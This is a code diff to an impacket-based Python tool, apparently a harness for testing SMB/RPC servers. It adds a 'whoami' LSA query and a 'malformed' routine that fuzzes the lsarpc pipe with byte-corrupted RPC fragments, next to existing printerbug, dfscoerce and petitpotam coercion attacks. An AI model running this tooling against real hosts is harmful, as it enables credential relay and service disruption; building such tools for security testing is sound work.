@@ -10,17 +10,20 @@ import io
 import json
 import logging
 import os
+import random
 import runpy
 import struct
 import sys
 import traceback
 
 from impacket import smbconnection
-from impacket.dcerpc.v5 import drsuapi, epm, nrpc, rpcrt, rprn, srvs, transport
+from impacket.dcerpc.v5 import drsuapi, epm, lsat, nrpc, rpcrt, rprn, srvs, transport
 from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
 from impacket.dcerpc.v5.ndr import NDRCALL
 from impacket.smb3structs import SMB2_DIALECT_21, SMB2_DIALECT_30
 from impacket.uuid import uuidtup_to_bin
+
+import rawrpc
 
 EXAMPLES = '/usr/share/doc/python3-impacket/examples'
 PRIVACY = rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY
@@ -167,6 +170,35 @@ def dfscoerce(target, words):
     print('NetrDfsRemoveStdRoot:', struct.unpack('<I', answer[-4:])[0])
 
 
+def whoami(target, _):
+    dce = target.pipe('lsarpc', lsat.MSRPC_UUID_LSAT)
+    call = lsat.LsarGetUserName()
+    call['SystemName'] = NULL
+    call['UserName'] = NULL
+    call['DomainName'] = NULL
+    dce.request(call).dump()
+
+
+def malformed(target, _):
+    """Fragments with bytes changed, over a pipe; each on a pipe of its own, since the server closes most."""
+    randomness = random.Random(1)
+    good = rawrpc.bind((0, 'lsarpc')), rawrpc.requests(44, b'\0' * 40)
+    wire = transport.DCERPCTransportFactory(f'ncacn_np:{target.address}[\\pipe\\lsarpc]')
+    wire.set_credentials(target.user, target.password, target.domain)
+    wire.connect()
+    smb, tree = wire.get_smb_connection(), wire.get_smb_connection().connectTree('IPC$')
+    for _ in range(200):
+        pipe = smb.openFile(tree, 'lsarpc', desiredAccess=3)
+        for piece in good:
+            data = bytearray(piece)
+            for _ in range(randomness.choice((0, 1, 2, 8))):
+                data[randomness.randrange(len(data))] = randomness.randrange(256)
+            with contextlib.suppress(smbconnection.SessionError):
+                smb.writeFile(tree, pipe, bytes(data))
+        with contextlib.suppress(smbconnection.SessionError):
+            smb.closeFile(tree, pipe)
+
+
 def petitpotam(target, _):
     target.pipe('lsarpc', uuidtup_to_bin(EFSRPC))
 
@@ -189,6 +221,8 @@ ATTACKS = {
     'printerbug': printerbug,
     'dfscoerce': dfscoerce,
     'petitpotam': petitpotam,
+    'whoami': whoami,
+    'malformed': malformed,
 }
 
 
